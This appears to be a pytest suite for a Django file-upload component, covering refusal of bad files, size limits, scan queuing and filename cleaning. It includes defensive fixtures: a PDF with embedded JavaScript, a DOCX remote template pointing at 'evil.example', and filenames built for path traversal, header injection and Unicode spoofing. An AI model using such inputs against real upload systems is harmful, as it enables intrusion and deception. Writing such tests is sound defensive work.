"""What is taken in, what is refused, and that a refusal leaves nothing."""

import hashlib
import tracemalloc

import pytest
from django.db import transaction

from pscc.files.limits import FileLimits
from pscc.files.models import StoredFile
from pscc.files.names import clean_name
from pscc.files.refusals import FileRefusedError
from pscc.kernel.clock import now
from pscc.outbox.models import Delivery
from tests.files import samples

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("kind", samples.GOOD)
def test_good_files_are_kept_byte_for_byte(kind, store, storage_folder):
    name, content = samples.GOOD[kind]

    stored = store(name, content)

    assert (storage_folder / stored.path).read_bytes() == content
    assert (stored.size, stored.sha256) == (len(content), hashlib.sha256(content).hexdigest())
    assert (stored.state, stored.flags) == ("pending", [])


@pytest.mark.parametrize("kind", samples.BAD)
def test_bad_files_are_refused_and_leave_nothing(kind, store, storage_folder):
    name, content, code = samples.BAD[kind]

    with pytest.raises(FileRefusedError) as refusal:
        store(name, content)

    assert refusal.value.code == code
    assert str(refusal.value.message).endswith(".")
    assert StoredFile.objects.count() == 0
    assert Delivery.objects.count() == 0
    assert [path for path in storage_folder.rglob("*") if path.is_file()] == []


def test_the_refusal_names_what_the_file_looks_like(store):
    with pytest.raises(FileRefusedError) as refusal:
        store("a.pdf", samples.png())

    assert "it looks like PNG" in str(refusal.value.message)


def test_too_large_is_refused_with_the_limit(store):
    with pytest.raises(FileRefusedError) as refusal:
        store(content=samples.pdf(b"x" * 1_048_577), limits=FileLimits(max_bytes=1_048_576))

    assert refusal.value.code == "size"
    assert "larger than 1 MB" in str(refusal.value.message)


def test_each_place_says_which_kinds_it_takes(store):
    logos = FileLimits(extensions=frozenset({"png", "jpg", "jpeg"}))

    with pytest.raises(FileRefusedError) as refusal:
        store("a.pdf", limits=logos)

    assert "JPG, PNG" in str(refusal.value.message)
    assert logos.accept == ".jpeg,.jpg,.png"


def test_a_script_in_a_pdf_is_remarked(store):
    stored = store(content=samples.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"))

    assert stored.flags == ["script"]


def test_a_protected_pdf_is_remarked(store):
    assert store(content=samples.pdf(b"/Encrypt 5 0 R")).flags == ["encrypted"]


def test_a_remote_template_is_remarked(store):
    link = (
        b'<R Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
    )

    stored = store("a.docx", samples.office(more={"word/_rels/settings.xml.rels": link}))

    assert stored.flags == ["remote_template"]


def test_the_scan_is_asked_for_in_the_same_transaction(store):
    stored = store()

    delivery = Delivery.objects.get()
    assert (delivery.event, delivery.payload) == ("files.file_stored", {"file_id": stored.pk})


def test_a_rolled_back_row_takes_its_bytes_along(store, storage_folder, sender):
    """The row cannot be written: no uploader with this id."""
    sender.pk = 987_654_321

    def act():
        with transaction.atomic():
            store(by=sender)
            transaction.get_connection().check_constraints()

    with pytest.raises(Exception, match="violates foreign key"):
        act()

    assert StoredFile.objects.count() == 0


def test_memory_stays_flat_for_large_files(store):
    content = samples.pdf(b"x" * 30_000_000)
    tracemalloc.start()

    store(content=content)

    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 8_000_000


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("Dossier.pdf", "Dossier.pdf"),
        ("Résumé été.PDF", "Résumé été.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system.pdf", "system.pdf"),
        ("/etc/cron.d/x.pdf", "x.pdf"),
        ("C:\\Users\\anne\\cv.pdf", "cv.pdf"),
        ("a\0b.pdf", "ab.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ("invoice\u202efdp.pdf", "invoicefdp.pdf"),
        ("zero\u200bwidth.pdf", "zerowidth.pdf"),
        ("%2e%2e%2fpasswd.pdf", "_2e_2e_2fpasswd.pdf"),
        ('quote".pdf', "quote_.pdf"),
        ("<script>.pdf", "_script_.pdf"),
        (".pdf", "file.pdf"),
        ("...pdf", "file.pdf"),
        ("", "file"),
        ("con.pdf", "_con.pdf"),
        ("  spaced   out .pdf", "spaced out.pdf"),
        ("cafe\u0301.pdf", "café.pdf"),
    ],
)
def test_names_are_made_harmless(raw, shown):
    assert clean_name(raw) == shown


@pytest.mark.parametrize("letter", ["a", "é", "漢", "🧬"])
def test_long_names_are_cut_between_characters(letter):
    name = clean_name(letter * 300 + ".pdf")

    assert name.endswith(f"{letter}.pdf")
    assert len(name.encode()) <= 140


def test_the_name_in_storage_tells_nothing(store):
    stored = store("Secret molecule XB-7.pdf")

    assert stored.path.startswith(f"{now():%Y-%m-%d}/")
    assert "Secret" not in stored.path
    assert len(stored.path.rpartition("/")[2]) == 32
